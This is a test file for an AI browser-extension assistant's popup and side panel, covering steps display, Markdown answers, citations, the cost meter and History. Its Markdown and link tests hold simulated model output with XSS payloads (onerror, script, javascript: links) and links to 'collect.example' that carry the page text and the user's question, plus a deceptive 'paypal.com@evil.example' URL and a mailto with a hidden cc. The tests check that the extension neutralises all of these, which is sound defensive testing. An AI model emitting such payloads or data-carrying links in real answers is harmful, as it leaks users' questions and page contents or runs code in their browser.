// The popup and side panel views, in real Chromium with the built extension and a
// scripted model server: the Steps region (live, and the same after a worker stop and a
// reopened popup), Markdown answers that run nothing, citations and their sources, the side
// panel answering about its tab and the popup's "Open side panel", the cost meter, History.

import assert from 'node:assert/strict';
import { after, before, test } from 'node:test';
import {
  configureProvider, inExtensionPage, openPopup, screenshot, stopServiceWorker, waitForSnapshot,
  waitForWorkerRunning, waitUntil, workerBootId,
} from './support/browser.mjs';
import { seriousViolations } from './support/axe.mjs';
import { startHarness } from './support/harness.mjs';
import { askQuestion, checkAccessibleNames, readPopup, requestBackend, waitForRunEnd } from './support/popup.mjs';


let harness;
let kl;
let llm;
const fixtureTab = () => harness.fixtureTab();

before(async () => {
  harness = await startHarness('ui');
  ({ kl, llm } = harness);
});

after(async () => {
  await harness?.close();
});

const observe = (done, answer = null) => ({
  content: JSON.stringify({ should_continue: !done, final_answer: done ? answer : null }),
  json: true,
});

/** Expands the Steps region (if it is not already) and returns its text. */
async function stepsText(popup) {
  const toggle = popup.getByRole('button', { name: 'Steps', exact: true });
  await toggle.waitFor();
  if ((await toggle.getAttribute('aria-expanded')) !== 'true') await toggle.press('Enter');
  assert.equal(await toggle.getAttribute('aria-expanded'), 'true');
  return popup.getByRole('region', { name: 'Steps', exact: true }).innerText();
}

test('the Steps region shows reasoning, tool calls with arguments, results and observations, live and after a worker stop', async () => {
  const answer = 'Agnes Tull kept the light and blamed the salt.';
  llm.script(
    { content: 'I will read the opening of the page.', tool_calls: [{ name: 'read_page', arguments: { offset: 0, max_chars: 200 } }] },
    observe(false),
    { content: 'Now the part about the keepers.', tool_calls: [{ name: 'read_page', arguments: { offset: 200, max_chars: 300 } }] },
    // Held back so the live view can be looked at while the run waits on it.
    { ...observe(true, answer), delayMs: 1500 },
  );
  const { tabId } = await fixtureTab();
  const popup = await openPopup(kl.context, kl.extId, tabId);
  await askQuestion(popup, 'Who kept the light, and what did she blame?');

  // Live: the entries arrive as step_item events while the run goes on.
  const live = await waitUntil(async () => {
    const text = await stepsText(popup);
    return text.includes('"offset": 200') ? text : null;
  }, { message: 'the second tool call in the live Steps region' });
  assert.match(live, /Now the part about the keepers\./);
  const done = await waitForRunEnd(popup, { diagnostics: () => kl.recentLogs() });
  assert.equal(done.state, 'completed', `${JSON.stringify(done)}\n${kl.recentLogs()}`);

  const steps = await stepsText(popup);
  for (const expected of [
    'Reasoning', 'I will read the opening of the page.', 'Now the part about the keepers.',
    'Tool call: read_page', 'Arguments', '"max_chars": 200', '"offset": 200',
    'Result', 'Observation',
  ]) {
    assert.ok(steps.includes(expected), `Steps lacks "${expected}":\n${steps}`);
  }
  assert.ok(/Bellhaven|Agnes|light/i.test(steps), `the read_page result is not shown:\n${steps}`);
  assert.equal(await popup.locator('#steps .step-badge').count(), 2, 'one numbered badge per step');
  await checkAccessibleNames(popup, { present: [['button', 'Steps'], ['region', 'Steps'], ['button', 'Copy answer']] });

  // The same list from storage: a stopped worker, and a popup opened afresh.
  const boot = await workerBootId(kl.context);
  await stopServiceWorker(kl.context);
  await popup.close();
  const reopened = await openPopup(kl.context, kl.extId, tabId);
  assert.notEqual(await waitForWorkerRunning(kl.context), boot, 'the worker did not restart');
  assert.equal(await stepsText(reopened), steps, 'the Steps region differs after a worker stop and reopen');
  await screenshot(reopened, 'ui-steps.png');
  await reopened.close();
});

test('Markdown from the model: the table and the https link render, nothing runs, no javascript: link', async () => {
  const answer = [
    'Intro with <img src=x onerror="window.__klPwned=1"> and <script>window.__klPwned=2</script>.',
    '',
    '[bad](javascript:window.__klPwned=3) and [good](https://example.com/keepers).',
    '',
    '| Keeper | Years |',
    '| --- | --- |',
    '| Agnes Tull | 1902–1931 |',
  ].join('\n');
  llm.script({ content: answer });
  const { tabId } = await fixtureTab();
  const popup = await openPopup(kl.context, kl.extId, tabId);
  await askQuestion(popup, 'Give me a table of the keepers.');
  const done = await waitForRunEnd(popup, { diagnostics: () => kl.recentLogs() });
  assert.equal(done.state, 'completed', `${JSON.stringify(done)}\n${kl.recentLogs()}`);

  const answerBox = popup.locator('#answer');
  assert.equal(await answerBox.locator('img, script, iframe, [onerror]').count(), 0, 'model HTML became elements');
  assert.equal(await answerBox.locator('a[href^="javascript:" i]').count(), 0, 'a javascript: link is a link');
  assert.equal(await popup.evaluate(() => globalThis.__klPwned ?? null), null, 'model output ran');
  assert.match(await answerBox.innerText(), /<img src=x/, 'the raw HTML is shown as text');
  const good = answerBox.getByRole('link', { name: 'good (example.com)', exact: true });
  assert.equal(await good.getAttribute('href'), 'https://example.com/keepers');
  assert.equal(await good.getAttribute('target'), '_blank');
  assert.match(await good.getAttribute('rel'), /noopener/);
  const table = answerBox.getByRole('table');
  assert.equal(await table.count(), 1, 'the Markdown table did not render');
  assert.equal(await table.getByRole('cell', { name: 'Agnes Tull', exact: true }).count(), 1);
  // Copy answer copies the Markdown text, not the rendered one.
  // (Chromium grants no clipboard permission to extension origins in tests: the write is caught.)
  await popup.evaluate(() => {
    navigator.clipboard.writeText = async (text) => {
      globalThis.__klCopied = text;
    };
  });
  await popup.getByRole('button', { name: 'Copy answer', exact: true }).click();
  assert.equal(await popup.evaluate(() => globalThis.__klCopied), answer);
  await screenshot(popup, 'ui-markdown.png');
  await popup.close();
});

test('links in an answer: the host beside the text, no title, none that carries the question or the page away, none live in the draft', async () => {
  const question = 'Which oil did the lamp at Bellhaven burn each winter, and how much?';
  const pageRun = 'stands on a basalt stack eleven kilometres off the Marrow coast'; // article.html, in [p1]
  const parts = [
    'The lamp burned colza oil [p1]. See [the keepers\' log](https://example.com/keepers "Official and safe") ' +
      'and <https://example.org/tides>. Not <https://paypal.com@evil.example/login>; ' +
      '[write](mailto:keeper@example.com?cc=spy@collect.example).\n\n',
    `Also [record](https://collect.example/log?d=${encodeURIComponent(pageRun)}), ` +
      `[ask](https://collect.example/q?text=${encodeURIComponent(question)}) and ` +
      '[forecast](https://collect.example/w?city=Marrow+coast+lighthouse+weather+for+the+coming+week).',
  ];
  // The second part waits 2 s: the draft of the first can be looked at meanwhile.
  llm.script({ deltas: parts, chunkDelayMs: 2000 });
  const { tabId } = await fixtureTab();
  const popup = await openPopup(kl.context, kl.extId, tabId);
  await askQuestion(popup, question);
  const answerBox = popup.locator('#answer');
  await waitUntil(async () => /the keepers' log/.test(await answerBox.innerText()), { message: 'the draft\'s first link' });
  assert.equal((await readPopup(popup)).state, 'running', 'the run ended before the draft could be read');
  assert.equal(await answerBox.locator('a').count(), 0, 'a draft\'s link is live');
  assert.match(await answerBox.innerText(), /the keepers' log \(example\.com\)/);
  const done = await waitForRunEnd(popup, { diagnostics: () => kl.recentLogs() });
  assert.equal(done.state, 'completed', `${JSON.stringify(done)}\n${kl.recentLogs()}`);
  // The premise: the page run is in the cited passage the view holds.
  const snapshot = await requestBackend(popup, { type: 'snapshot', session: `tab:${tabId}` });
  assert.ok(snapshot.data.sources.some((s) => s.id === 'p1' && s.excerpt.includes(pageRun)), JSON.stringify(snapshot.data.sources));

  const log = answerBox.getByRole('link', { name: 'the keepers\' log (example.com)', exact: true });
  assert.equal(await log.getAttribute('href'), 'https://example.com/keepers');
  assert.equal(await answerBox.getByRole('link', { name: 'https://example.org/tides', exact: true }).count(), 1);
  assert.equal(await answerBox.getByRole('link', { name: 'forecast (collect.example)', exact: true }).count(), 1);
  // A user name before the host, and a hidden copy to someone else, are shown.
  const lie = 'https://paypal.com@evil.example/login (evil.example)';
  assert.equal(await answerBox.getByRole('link', { name: lie, exact: true }).count(), 1);
  const mail = 'write (keeper@example.com, cc: spy@collect.example)';
  assert.equal(await answerBox.getByRole('link', { name: mail, exact: true }).count(), 1);
  assert.equal(await answerBox.locator('[title]').count(), 0, 'the model\'s title is shown');
  assert.doesNotMatch(await answerBox.innerText(), /Official and safe/);
  // The two links that carry the page's text and the question are text.
  assert.equal(await answerBox.locator('a[href*="/log?"], a[href*="/q?"]').count(), 0, 'a link carries the page or the question');
  const removed = ' (link to collect.example removed: it carried text from this session)';
  assert.match(await answerBox.innerText(), new RegExp(`record${removed.replace(/[()]/g, '\\$&')}, ask${removed.replace(/[()]/g, '\\$&')} and`));
  await checkAccessibleNames(popup, { present: [['link', 'the keepers\' log (example.com)']] });
  assert.deepEqual(await seriousViolations(popup), [], 'axe, with the host labels and notes');
  await screenshot(popup, 'ui-links.png');
  await popup.emulateMedia({ colorScheme: 'dark' });
  assert.deepEqual(await seriousViolations(popup), [], 'axe, dark theme');
  await screenshot(popup, 'ui-links-dark.png');
  await popup.close();
});

test('a citation links to its source; an invalid one is gone from the saved answer', async () => {
  llm.script(
    { content: 'Reading.', tool_calls: [{ name: 'read_page', arguments: { offset: 0, max_chars: 400 } }] },
    observe(true, 'Agnes Tull kept the light [p1]. She also flew to the moon [p7].'),
  );
  const { tabId } = await fixtureTab();
  const popup = await openPopup(kl.context, kl.extId, tabId);
  await askQuestion(popup, 'Who kept the light? Cite the page.');
  const done = await waitForRunEnd(popup, { diagnostics: () => kl.recentLogs() });
  assert.equal(done.state, 'completed', `${JSON.stringify(done)}\n${kl.recentLogs()}`);
  const snapshot = await requestBackend(popup, { type: 'snapshot', session: `tab:${tabId}` });
  assert.ok(Array.isArray(snapshot.data.sources), `no sources in the snapshot: ${JSON.stringify(snapshot.data)}`);
  assert.deepEqual(snapshot.data.sources.map((s) => s.id), ['p1']);
  assert.ok(!snapshot.data.answer.includes('[p7]'), `the invalid citation was saved: ${snapshot.data.answer}`);
  assert.ok(!done.answerText.includes('[p7]'));
  const link = popup.locator('#answer a[href="#source-p1"]');
  assert.equal(await link.count(), 1, 'the citation is not a link to its source');
  const source = popup.locator('#source-p1');
  assert.equal(await source.count(), 1, 'the source is not listed');
  assert.equal(await popup.getByRole('region', { name: 'Sources', exact: true }).count(), 1);
  // Activating a page citation shows the passage in the page's tab (cite.test.mjs has the
  // details) instead of jumping to the source list; its href still names the source.
  await link.click();
  await waitUntil(async () => (await popup.evaluate(() => document.documentElement.dataset.located)) === 'found:p1', {
    message: 'the worker to show the cited passage in the page',
  });
  assert.equal(await popup.evaluate(() => location.hash), '');
  await screenshot(popup, 'ui-sources.png');
  await popup.close();
});

test('the side panel, opened as a tab for its tab, answers a question about that tab', async () => {
  const answer = 'Bellhaven Light was first lit in 1861.';
  llm.script({ content: answer });
  const { tabId } = await fixtureTab();
  const panel = await kl.context.newPage();
  await panel.goto(`chrome-extension://${kl.extId}/sidepanel.html?tab=${tabId}`);
  await waitForSnapshot(panel);
  assert.equal(await panel.evaluate(() => document.documentElement.dataset.session), `tab:${tabId}`);
  assert.equal(await panel.getByRole('button', { name: 'Open side panel' }).count(), 0, 'the panel offers to open itself');
  assert.equal(await panel.getByRole('button', { name: 'Allow on this site' }).count(), 0, 'loopback pages are readable');
  const before = llm.chatRequests.length;
  await askQuestion(panel, 'When was the light first lit?');
  const done = await waitForRunEnd(panel, { diagnostics: () => kl.recentLogs() });
  assert.equal(done.state, 'completed', `${JSON.stringify(done)}\n${kl.recentLogs()}`);
  assert.ok(done.answerText.includes(answer));
  const prompt = JSON.stringify(llm.chatRequests[before].body.messages);
  assert.ok(prompt.includes('412 litres of colza oil'), 'the tab\'s page text did not reach the model');
  await checkAccessibleNames(panel);
  await panel.close();
});

test('"Open side panel" sets the tab\'s panel and opens it (or the popup in a window)', async () => {
  const { tabId } = await fixtureTab();
  const popup = await openPopup(kl.context, kl.extId, tabId);
  const button = popup.getByRole('button', { name: 'Open side panel', exact: true });
  await button.click();
  const where = await waitUntil(() => popup.evaluate(() => document.documentElement.dataset.panel), {
    message: 'the side panel (or the window) to open',
  });
  const options = await inExtensionPage(kl.context, (id) => chrome.sidePanel.getOptions({ tabId: id }), tabId);
  assert.equal(options.path, `sidepanel.html?tab=${tabId}`);
  assert.equal(options.enabled, true);
  if (where === 'window') {
    // Chrome refused the panel: the popup page for this tab opened in a window instead.
    await waitUntil(() => kl.context.pages().some((p) => p.url().endsWith(`/popup.html?tab=${tabId}`)), {
      message: 'the fallback window',
    });
  } else {
    assert.equal(where, 'side_panel');
  }
  await popup.close();
});

test('the cost meter shows an estimate for a priced model, and the context share', async () => {
  await configureProvider(kl.context, kl.extId, { baseUrl: llm.baseUrl, model: 'gpt-4o-mini' });
  try {
    llm.script({ content: 'Priced answer.', usage: { prompt_tokens: 12_000, completion_tokens: 3_000 } });
    const { tabId } = await fixtureTab();
    const popup = await openPopup(kl.context, kl.extId, tabId);
    await askQuestion(popup, 'How much does this cost?');
    const done = await waitForRunEnd(popup, { diagnostics: () => kl.recentLogs() });
    assert.equal(done.state, 'completed', `${JSON.stringify(done)}\n${kl.recentLogs()}`);
    const snapshot = await requestBackend(popup, { type: 'snapshot', session: `tab:${tabId}` });
    assert.equal(snapshot.data.cost?.source, 'table', `no cost from the price table: ${JSON.stringify(snapshot.data.cost)}`);
    const cost = popup.locator('#cost');
    assert.match(await cost.innerText(), /^Cost: \$\d+\.\d{4} \(estimate\)$/);
    assert.equal(await cost.getAttribute('aria-live'), null, 'the cost meter is live');
    assert.equal(await popup.getByRole('status').count(), 1);
    assert.equal(typeof snapshot.data.context_share, 'number', 'no context share');
    assert.match(await popup.locator('#context-share').innerText(), /^Context: \d+% of the window$/);
    await screenshot(popup, 'ui-cost.png');
    await popup.close();
  } finally {
    await configureProvider(kl.context, kl.extId, { baseUrl: llm.baseUrl });
  }
});

test('History lists archived conversations, reopens one read-only, and clears them', async () => {
  llm.script({ content: 'First answer about the light.' }, { content: 'Second answer.' });
  const { tabId } = await fixtureTab();
  const popup = await openPopup(kl.context, kl.extId, tabId);
  await askQuestion(popup, 'The first conversation question');
  await waitForRunEnd(popup, { diagnostics: () => kl.recentLogs() });
  await popup.getByRole('button', { name: 'New conversation', exact: true }).click();
  await waitUntil(async () => !(await popup.locator('#asked').isVisible()), { message: 'a fresh conversation' });
  await askQuestion(popup, 'The second conversation question');
  await waitForRunEnd(popup, { diagnostics: () => kl.recentLogs() });

  const historyButton = popup.getByRole('button', { name: 'History', exact: true });
  await historyButton.click();
  assert.equal(await historyButton.getAttribute('aria-expanded'), 'true');
  const history = popup.getByRole('region', { name: 'History', exact: true });
  const entry = history.getByRole('button', { name: 'The first conversation question', exact: true });
  await entry.waitFor();
  await checkAccessibleNames(popup, { present: [['button', 'New conversation'], ['region', 'History'], ['button', 'Clear history']] });
  await entry.click();
  const back = popup.getByRole('button', { name: 'Back to the current conversation', exact: true });
  await back.waitFor();
  assert.match(await popup.locator('#readonly').innerText(), /Read-only/);
  assert.match(await popup.locator('#answer').innerText(), /First answer about the light\./);
  assert.equal(await popup.getByRole('button', { name: 'Ask', exact: true }).count(), 0, 'an archived conversation can be asked');
  await screenshot(popup, 'ui-history.png');
  await back.click();
  assert.match(await popup.locator('#answer').innerText(), /Second answer\./);

  await popup.getByRole('button', { name: 'Clear history', exact: true }).click();
  await waitUntil(async () => (await history.getByRole('button', { name: 'The first conversation question' }).count()) === 0, {
    message: 'History to be cleared',
  });
  const listed = await requestBackend(popup, { type: 'history' });
  assert.deepEqual(listed.data.conversations, []);
  await popup.close();
});
